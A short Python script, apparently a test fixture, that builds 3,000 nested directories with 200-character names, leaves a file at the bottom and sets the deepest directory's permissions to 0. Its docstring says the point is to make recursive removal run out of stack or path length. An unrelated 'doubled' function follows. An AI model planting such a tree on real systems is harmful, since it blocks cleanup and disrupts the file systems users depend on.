"""Whoever removes these folders by recursion runs out of stack, or of path."""

import os

home = os.open(".", os.O_RDONLY)
for _ in range(3_000):
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
open("at the bottom", "w").close()
os.chmod(".", 0)
os.fchdir(home)
os.close(home)


def doubled(x):
    return 2 * x
